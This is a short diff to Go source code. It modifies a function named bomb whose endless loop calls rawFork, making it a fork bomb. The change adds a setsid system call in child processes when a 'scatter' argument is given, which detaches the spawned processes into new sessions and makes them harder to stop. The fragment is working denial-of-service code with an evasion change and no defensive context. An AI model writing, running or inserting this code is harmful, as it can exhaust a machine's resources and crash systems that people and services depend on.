@@ -171,7 +171,9 @@ func bomb(a []string) {
 		}
 	}
 	for {
-		rawFork()
+		if rawFork() == 0 && len(a) > 1 && a[1] == "scatter" {
+			syscall.RawSyscall(syscall.SYS_SETSID, 0, 0, 0)
+		}
 	}
 }
 
